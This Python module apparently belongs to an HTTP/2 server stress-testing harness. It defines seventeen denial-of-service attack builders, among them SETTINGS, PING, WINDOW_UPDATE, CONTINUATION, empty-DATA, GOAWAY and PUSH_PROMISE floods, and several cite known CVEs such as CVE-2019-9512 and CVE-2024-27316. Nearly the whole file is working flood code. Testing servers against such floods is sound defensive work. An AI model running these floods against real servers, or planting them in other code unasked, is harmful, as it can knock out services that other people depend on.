"""One frame after the other that is cheap to make and asks for no call."""

from bench.attacks import frames
from bench.attacks.attack import Attack, Target, Volley, greeting, numbered, repeated, stream_ids
from bench.attacks.frames import ACK, PADDED, FrameType, Setting
from bench.attacks.gates import Windows

WINDOW_STREAMS = 100


def settings_flood(_target: Target) -> Attack:
    """SETTINGS that change nothing; each wants an acknowledgement (CVE-2019-9515)."""
    return Attack(volley=Volley.of(repeated(frames.settings())))


def settings_flood_unread(_target: Target) -> Attack:
    """SETTINGS whose acknowledgements are never read."""
    return _unread(frames.settings())


def settings_window_toggle(target: Target) -> Attack:
    """SETTINGS that change the windows of 100 waiting streams to and fro."""
    waiting = (target.call(stream, large=True) for stream in stream_ids(WINDOW_STREAMS))
    toggle = b"".join(frames.settings({Setting.INITIAL_WINDOW_SIZE: size}) for size in (1, 0))
    return Attack(
        opening=greeting(*waiting, settings={Setting.INITIAL_WINDOW_SIZE: 0}),
        volley=Volley.of(repeated(toggle)),
    )


def settings_table_toggle(_target: Target) -> Attack:
    """SETTINGS that change the size of the server's HPACK table to and fro."""
    toggle = b"".join(frames.settings({Setting.HEADER_TABLE_SIZE: size}) for size in (0, 4_096))
    return Attack(volley=Volley.of(repeated(toggle)))


def ping_flood(_target: Target) -> Attack:
    """PING frames; each wants an answer (CVE-2019-9512)."""
    return Attack(volley=Volley.of(numbered(_numbered_ping)))


def ping_flood_unread(_target: Target) -> Attack:
    """PING frames whose answers are never read."""
    return _unread(frames.ping())


def ack_flood(_target: Target) -> Attack:
    """Acknowledgements of PINGs and SETTINGS that the server never sent."""
    acks = frames.ping(flags=ACK) + frames.frame(FrameType.SETTINGS, flags=ACK)
    return Attack(volley=Volley.of(repeated(acks)))


def window_update_flood(_target: Target) -> Attack:
    """WINDOW_UPDATE of one byte for the connection."""
    return Attack(volley=Volley.of(repeated(frames.window_update(0, 1))))


def window_update_stream_flood(target: Target) -> Attack:
    """WINDOW_UPDATE of one byte for a stream whose call has not begun."""
    return _on_an_open_stream(target, frames.window_update(1, 1))


def priority_flood(_target: Target) -> Attack:
    """PRIORITY, which is deprecated and allowed, for streams in any state."""
    return Attack(volley=Volley.of(numbered(_priority)))


def continuation_flood(target: Target) -> Attack:
    """One header block that never ends, of CONTINUATION frames (CVE-2024-27316)."""
    start = frames.headers(1, target.block, flags=0)
    field = b"\0\x08x-filler\x40" + b"f" * 64
    part = frames.frame(FrameType.CONTINUATION, 1, repeated(field, at_least=1_024))
    return Attack(opening=greeting(start), volley=Volley.of(repeated(part)))


def continuation_flood_empty(target: Target) -> Attack:
    """A header block that never ends, of empty CONTINUATION frames."""
    start = frames.headers(1, target.block, flags=0)
    part = frames.frame(FrameType.CONTINUATION, 1)
    return Attack(opening=greeting(start), volley=Volley.of(repeated(part)))


def unknown_frame_flood(_target: Target) -> Attack:
    """Frames of a type that nobody knows, which must be ignored (section 5.5)."""
    return Attack(volley=Volley.of(repeated(frames.frame(0xFA, payload=bytes(16)))))


def empty_data_flood(target: Target) -> Attack:
    """DATA frames without data on an open stream (CVE-2019-9518)."""
    return _on_an_open_stream(target, frames.data(1))


def padded_data_flood(target: Target) -> Attack:
    """DATA frames of padding alone, as far as the windows go."""
    unit = frames.data(1, b"\0", PADDED)
    return Attack(
        opening=greeting(target.opened(1)),
        volley=Volley.of(repeated(unit)),
        gate=lambda: Windows([1], unit, 1),
    )


def goaway_flood(target: Target) -> Attack:
    """GOAWAY again and again while a call waits for its message."""
    return _on_an_open_stream(target, frames.goaway())


def push_promise(_target: Target) -> Attack:
    """PUSH_PROMISE, which no client may send (section 8.4)."""
    frame = frames.frame(FrameType.PUSH_PROMISE, 1, bytes((0, 0, 0, 2)), frames.END_HEADERS)
    return Attack(volley=Volley.of(repeated(frame)))


def _numbered_ping(number: int) -> bytes:
    return frames.ping(number.to_bytes(8, "big"))


def _priority(number: int) -> bytes:
    return frames.priority(2 * number + 1, weight=number % 256)


def _unread(frame: bytes) -> Attack:
    return Attack(volley=Volley.of(repeated(frame)), reads=0, receive_buffer=4_096)


def _on_an_open_stream(target: Target, frame: bytes) -> Attack:
    return Attack(opening=greeting(target.opened(1)), volley=Volley.of(repeated(frame)))


ATTACKS = (
    settings_flood,
    settings_flood_unread,
    settings_window_toggle,
    settings_table_toggle,
    ping_flood,
    ping_flood_unread,
    ack_flood,
    window_update_flood,
    window_update_stream_flood,
    priority_flood,
    continuation_flood,
    continuation_flood_empty,
    unknown_frame_flood,
    empty_data_flood,
    padded_data_flood,
    goaway_flood,
    push_promise,
)
